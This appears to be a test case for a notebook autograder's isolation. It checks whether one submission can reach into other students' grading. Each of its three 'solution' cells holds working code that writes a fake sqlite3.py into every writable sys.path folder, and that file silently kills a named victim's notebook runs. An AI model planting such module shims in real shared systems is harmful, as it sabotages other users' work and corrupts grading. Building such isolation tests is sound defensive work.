# notebook: all
# cell: vjp linear square
# others: solution
# expect: vjp=3 accumulate=4 secondderiv=3 linear=6 square=6 exp=6 sinh=6 cube=6 softplus=6 sortvalues=4 hvp=4 penalty=3
# bound: 30
# policy: off
# why: right answers (the instructor's, in place of the line `# <solution>`) that also plant a module named
#      sqlite3 in every writable folder on sys.path (the worker's folder is sys.path[0]). IPython imports
#      sqlite3 when a later notebook's shell starts, so the module would run inside other students' grading:
#      it kills the notebooks of planted-module-victim. That student must not be affected.
# %% cell: vjp
# <solution>
import os as _os
import sys as _sys

_SHIM = '''
import importlib, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
try:
    with open("plan.json") as _f:
        _victim = ("planted-module-" + "victim-4d2") in _f.read()
except OSError:
    _victim = False
if _victim:
    os._exit(0)
del sys.modules[__name__]
_path = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
try:
    sys.modules[__name__] = importlib.import_module(__name__)
finally:
    sys.path[:] = _path
'''


def _plant():
    planted = []
    for folder in dict.fromkeys(p for p in _sys.path if p and _os.path.isdir(p)):
        try:
            with open(_os.path.join(folder, "sqlite3.py"), "w") as f:
                f.write(_SHIM)
            planted.append(folder)
        except OSError:
            pass
    return planted


print("planted in:", _plant())
# %% cell: linear
# <solution>
import os as _os
import sys as _sys

_SHIM = '''
import importlib, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
try:
    with open("plan.json") as _f:
        _victim = ("planted-module-" + "victim-4d2") in _f.read()
except OSError:
    _victim = False
if _victim:
    os._exit(0)
del sys.modules[__name__]
_path = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
try:
    sys.modules[__name__] = importlib.import_module(__name__)
finally:
    sys.path[:] = _path
'''


def _plant():
    planted = []
    for folder in dict.fromkeys(p for p in _sys.path if p and _os.path.isdir(p)):
        try:
            with open(_os.path.join(folder, "sqlite3.py"), "w") as f:
                f.write(_SHIM)
            planted.append(folder)
        except OSError:
            pass
    return planted


print("planted in:", _plant())
# %% cell: square
# <solution>
import os as _os
import sys as _sys

_SHIM = '''
import importlib, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
try:
    with open("plan.json") as _f:
        _victim = ("planted-module-" + "victim-4d2") in _f.read()
except OSError:
    _victim = False
if _victim:
    os._exit(0)
del sys.modules[__name__]
_path = sys.path[:]
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
try:
    sys.modules[__name__] = importlib.import_module(__name__)
finally:
    sys.path[:] = _path
'''


def _plant():
    planted = []
    for folder in dict.fromkeys(p for p in _sys.path if p and _os.path.isdir(p)):
        try:
            with open(_os.path.join(folder, "sqlite3.py"), "w") as f:
                f.write(_SHIM)
            planted.append(folder)
        except OSError:
            pass
    return planted


print("planted in:", _plant())
